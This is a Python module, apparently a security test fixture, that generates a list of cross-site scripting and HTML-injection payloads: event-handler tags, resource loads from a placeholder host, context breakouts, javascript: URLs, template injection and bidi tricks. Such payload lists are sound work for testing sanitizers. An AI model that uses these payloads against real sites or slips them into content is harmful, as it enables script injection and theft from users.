"""A hundred ways to get a script run or a request sent from a text; each would set `owned` or ask example.invalid."""

from __future__ import annotations

_EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter")
_TAGS = ("img src=x", "svg", "body", "details open", "video src=x", "input autofocus", "marquee", "iframe src=x")
_ACTIVE = [f"<{tag} {event}=window.owned=1>" for tag in _TAGS for event in _EVENTS]
_ADDRESSES = [
    f"<{tag}>"
    for tag in (
        "img src=https://example.invalid/owned",
        "iframe src=https://example.invalid/owned",
        "link rel=stylesheet href=https://example.invalid/owned.css",
        "script src=https://example.invalid/owned.js",
        "object data=https://example.invalid/owned",
        "embed src=https://example.invalid/owned",
        "form action=https://example.invalid/owned",
        "meta http-equiv=refresh content='0;url=https://example.invalid/owned'",
        "base href=https://example.invalid/owned/",
        "video poster=https://example.invalid/owned",
        "audio src=https://example.invalid/owned",
        "input type=image src=https://example.invalid/owned",
    )
]
_LANGUAGES = [
    "<script>window.owned=1</script>",
    "</script><script>window.owned=1</script>",
    "<scr<script>ipt>window.owned=1</scr</script>ipt>",
    "javascript:window.owned=1",
    "[owned](javascript:window.owned=1)",
    "![owned](https://example.invalid/owned.png)",
    "<a href='javascript:window.owned=1'>owned</a>",
    "<style>@import url(https://example.invalid/owned.css);</style>",
    "<style>*{background:url(https://example.invalid/owned)}</style>",
    "}</style><script>window.owned=1</script>",
    "p5;background:url(https://example.invalid/owned)",
    'tok" onmouseover="window.owned=1',
    "'\"><svg/onload=window.owned=1>",
    "--><script>window.owned=1</script><!--",
    "]]><script>window.owned=1</script>",
    "</textarea><script>window.owned=1</script>",
    "</title><script>window.owned=1</script>",
    "</bdi></q></b><script>window.owned=1</script>",
    "{{constructor.constructor('window.owned=1')()}}",
    "${window.owned=1}",
    "`${window.owned=1}`",
    "<math><mtext><script>window.owned=1</script></mtext></math>",
    "<svg><script>window.owned=1</script></svg>",
    "<svg><use href='https://example.invalid/owned.svg#x'/></svg>",
    "<template shadowrootmode=open><script>window.owned=1</script></template>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    ":red[owned] :material/home: $owned$",
    "__proto__",
    "constructor owned",
    "\u202eowned\u202c\u2066<script>window.owned=1</script>\u2069",
]

PAYLOADS = (*_ACTIVE, *_ADDRESSES, *_LANGUAGES)
"""All of them."""
